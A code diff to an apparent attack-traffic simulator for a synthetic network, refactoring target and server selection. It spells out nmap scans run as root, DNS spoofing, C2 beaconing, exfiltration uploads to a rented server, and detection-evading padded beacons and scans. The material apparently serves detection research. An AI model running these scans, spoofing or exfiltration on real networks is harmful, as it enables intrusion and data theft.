@@ -35,9 +35,8 @@ Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seco
 
 
 def port_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
-    """Many ports of two servers, by whole connections, so that the kernel's own TCP speaks."""
-    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
-    targets = o.rng.sample(servers, k=min(2, len(servers)))
+    """Many ports of two hosts, by whole connections, so that the kernel's own TCP speaks."""
+    targets = [h.address for h in o.targets(2)]
     ports = str(int(150 * attack.pace))
     yield o.step("port-scan", "nmap", "-sT", "-n", "-Pn", "-T4", "--top-ports", ports, *targets, limit=lasts)
 
@@ -161,7 +160,7 @@ def dns_tunnel(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[Step]:
     """Asks for orders at intervals with jitter; now and then an answer goes back."""
-    site = o.rng.choice(o.world.bad_sites() or o.world.sites(inside=False))
+    site = o.rented()
     mean = 5.0 / attack.pace
     after = 0.0
     by_program, apart = o.by_program(), o.rng.random() < 0.4
@@ -198,7 +197,7 @@ def beacon_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Orders asked for in host names."""
-    domain = (o.world.bad_sites() or ["www.fastsync.example"])[0].split(".", 1)[1]
+    domain = o.rented().split(".", 1)[1]
     by_program = o.by_program()
     after = 0.0
     while after < lasts:
@@ -209,13 +208,13 @@ def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def upload_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Everything at once, to a rented server."""
-    site = (o.world.bad_sites() or o.world.sites(inside=False))[-1]
+    site = o.rented()
     yield from _pieces(o, attack, lasts, f"https://{site}/files/")
 
 
 def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A little at a time."""
-    site = (o.world.bad_sites() or o.world.sites(inside=False))[0]
+    site = o.rented()
     after, number = 0.0, 0
     by_program = o.by_program()
     while after < lasts:
@@ -244,8 +243,7 @@ def upload_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def syn_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Half-open, by a raw socket that says what the kernel would say of TTL and window."""
-    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
-    targets = o.rng.sample(servers, k=min(2, len(servers)))
+    targets = [h.address for h in o.targets(2)]
     if o.world.host(o.actor.host).uplinks == 2:  # and outside, of which the recording has half
         targets += [h.address for h in o.world.hosts if not h.inside][:2]
     argv = (
@@ -257,9 +255,10 @@ def syn_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 
 def udp_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
-    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
     fixed = words("nmap -sU -n -Pn -T4 --send-ip --ttl 64 --max-retries 1 --top-ports")
-    yield _as_root(o.step("udp-scan", *fixed, str(int(40 * attack.pace)), o.rng.choice(servers), limit=lasts))
+    yield _as_root(
+        o.step("udp-scan", *fixed, str(int(40 * attack.pace)), o.targets()[0].address, limit=lasts)
+    )
 
 
 def _as_root(step: Step) -> Step:
@@ -428,10 +427,9 @@ def modbus_writes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Bytes that no protocol knows, and TCP flags that no kernel sets."""
-    servers = [h for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
     after = 0.0
     while after < lasts:
-        host = o.rng.choice(servers)
+        host = o.targets()[0]
         port = str(o.rng.choice((22, 25, 53, 80, 443, 445, 502, 1883, 5432, 9100)))
         if "print" in host.services and o.rng.random() < 0.7:
             port = "9100"
@@ -472,7 +470,7 @@ def dns_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     filter_ = f"udp dst port 53 and not src host {here.address}"
     yield _as_root(o.step("dns-spoofing", "dnsspoof", "-i", "eth0", "-f", str(names), filter_, limit=lasts))
     if "web" not in here.services:
-        site = (o.world.bad_sites() or o.world.sites(inside=False))[-1]
+        site = o.rented()
         tls, page = o.world.run.state / "tls", o.world.run.state / "www" / site
         secure = (
             "-accept",
@@ -500,7 +498,7 @@ def connect_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A beacon that hides its regularity: sizes padded at random, pages varied, long sleeps between short bursts."""
-    site = o.rng.choice(o.world.bad_sites() or o.world.sites(inside=False))
+    site = o.rented()
     by_program, scheme = o.by_program(), o.rng.choice(("https", "https", "http"))
     after = 0.0
     while after < lasts:
@@ -519,10 +517,9 @@ def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 def padded_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Slow, in random order, with bytes in packets that need none, from the port of an allowed service."""
-    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
     fixed = words("nmap -sS -n -Pn --send-ip --ttl 64 --max-retries 1 --data-length")
     size, pause = str(o.rng.randrange(8, 200)), f"{int(150 / attack.pace)}ms"
-    target = o.rng.choice(servers)
+    target = o.targets()[0].address
     count = str(max(10, min(300, int(lasts * attack.pace / 0.2))))
     argv = (*fixed, size, "--scan-delay", pause, "--max-scan-delay", pause, "--top-ports", count, target)
     yield _as_root(o.step("padded-scan", *argv, limit=lasts))
